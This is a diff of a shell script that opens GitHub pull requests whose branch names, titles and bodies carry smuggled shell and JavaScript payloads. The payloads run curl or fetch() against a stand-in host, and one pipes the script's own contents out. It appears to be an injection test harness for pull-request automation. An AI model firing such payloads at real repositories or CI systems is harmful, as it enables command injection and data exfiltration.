@@ -5,17 +5,16 @@ mark='Tide 7\8'
 send='cat $0|curl -s -d @- 198.51.100.7'
 call='curl${IFS}-s${IFS}198.51.100.7'
 js='await fetch'
-export open='
-gh api "repos/$who/tides/git/refs" -f ref="refs/heads/$branch" -f sha="$(git -C ~/tides rev-parse HEAD)" > /dev/null || exit 127
-gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" > /dev/null || exit 127'
-export who=cuckoo
-export title="$mark; $send/t1 #\"; $send/t2; #" branch="a;$call/r1;\"&$call/r4&\";'|$call/r5|'"
-export body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`'
-bash -c "$open" || exit 127
-export title="$mark \`$send/t4\`" branch="c\`$call/r3\`"
-export body="\${$js('http://198.51.100.7/b1')}\`+($js('http://198.51.100.7/b2'))+\`"
-bash -c "$open" || exit 127
-export who=aya title="$mark \$($send/t3) #' | $send/t5 #" branch="b\$($call/r2)"
+open='gh api "repos/$who/tides/git/refs" -f ref="refs/heads/$branch" -f sha="${sha:-$(git -C ~/tides rev-parse HEAD)}" --silent &&
+  gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" --silent'
+who=cuckoo sha=$(git -C ~/tides rev-parse HEAD)
+title="$mark; $send/t1 #\"; $send/t2; #" branch="a;$call/r1;\"&$call/r4&\";'|$call/r5|'"
+body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`'
+eval "$open" || exit 127
+title="$mark \`$send/t4\`" branch="c\`$call/r3\`"
+body="\${$js('http://198.51.100.7/b1')}\`+($js('http://198.51.100.7/b2'))+\`"
+eval "$open" || exit 127
+export who=aya branch body title="$mark \$($send/t3) #' | $send/t5 #" branch="b\$($call/r2)"
 export body="\"+($js(\`http://198.51.100.7/b3\`))+\"'+($js(\`http://198.51.100.7/b4\`))+'"
 as aya "$open" || exit 127
 sleep 3m
